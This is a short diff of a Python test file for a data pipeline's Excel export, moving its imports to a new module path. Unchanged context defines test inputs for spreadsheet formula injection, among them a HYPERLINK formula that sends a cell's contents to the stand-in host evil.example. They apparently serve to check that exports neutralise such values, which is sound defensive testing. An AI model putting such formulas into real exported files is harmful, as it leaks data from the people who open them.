@@ -7,8 +7,8 @@ import duckdb
 import openpyxl
 import pytest
 
-from mel_pipeline import excel_export
-from mel_pipeline.excel_export import export_workbook
+from mel_pipeline.outputs import workbook as excel_export
+from mel_pipeline.outputs.workbook import export_workbook
 
 HOSTILE = ['=HYPERLINK("http://evil.example/steal?x="&A1,"click me")', "+1", "-2", "@SUM(A1)", "\tcmd", "\rcmd"]
 LONG_NAME = "rejected_rows_with_a_name_longer_than_excel_allows"
